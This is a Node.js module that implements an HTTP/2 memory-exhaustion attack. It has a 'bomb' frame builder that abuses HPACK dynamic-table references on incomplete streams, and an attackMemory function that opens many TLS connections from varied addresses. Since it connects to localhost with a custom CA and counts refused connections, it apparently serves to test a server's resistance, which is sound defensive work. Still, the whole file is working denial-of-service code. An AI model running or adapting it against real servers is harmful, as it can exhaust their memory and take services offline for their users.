// An attack on memory: HTTP/2 connections with incomplete requests, whose heads repeat references to one large entry of the
// header table (RFC 7541 section 7.3): about 70 bytes on the wire make the server store 8 KB.
import { once } from 'node:events'
import { connect } from 'node:tls'
import { block, frame, integer, join, kFlag, kPreface, kType, settings } from './http2_frames.mjs'

const kEntry = 3_900 // with its name and the 32 bytes of RFC 7541 section 4.1 it fits a table of 4,096
const kReferences = 2 // more would exceed the limit of a header block
const kStreams = 60
const kNewest = Buffer.from([0x80 | 62]) // the entry added last: the first after the static table

const pseudo = block([[':method', 'POST'], [':scheme', 'https'], [':path', '/oauth/token'], [':authority', 'a']])
// "Literal Header Field with Incremental Indexing -- New Name" (RFC 7541 section 6.2.1).
const entry = join([Buffer.from([0x40])], integer(0, 7, 1), 'x', integer(0, 7, kEntry), 'v'.repeat(kEntry))

/** The bytes that one connection sends. */
export function bomb() {
  const heads = [frame(kType.headers, kFlag.endHeaders, 1, join(pseudo, entry))]
  for (let index = 1; index < kStreams; ++index) {
    heads.push(frame(kType.headers, kFlag.endHeaders, 2 * index + 1, join(pseudo, Array(kReferences).fill(kNewest))))
  }
  return join(kPreface, settings(), heads)
}

/**
 * Opens `count` connections over TLS, each from the address from(index), and sends these bytes on each. Resolves, when
 * all is sent or refused, to { bytes, refused, end }: bytes on the wire, connections that the server has closed at once,
 * and what closes all of them.
 */
export async function attackMemory(port, { ca, count, from }) {
  const bytes = bomb()
  const sockets = []
  let sent = 0
  const one = async (index) => {
    const socket = connect({ port, host: '127.0.0.1', localAddress: from(index), ca, ALPNProtocols: ['h2'] })
    sockets.push(socket)
    socket.on('error', () => {}).resume()
    const gone = once(socket, 'close').catch(() => {})
    await Promise.race([once(socket, 'secureConnect').catch(() => {}), gone])
    if (socket.destroyed) return
    sent += bytes.length
    await Promise.race([new Promise((resolve) => socket.write(bytes, resolve)), gone])
  }
  for (let index = 0; index < count; index += 50) {
    await Promise.all(Array.from({ length: Math.min(50, count - index) }, (_, each) => one(index + each)))
  }
  return {
    bytes: sent,
    refused: sockets.filter((socket) => socket.destroyed).length,
    end: () => sockets.forEach((socket) => socket.destroy()),
  }
}
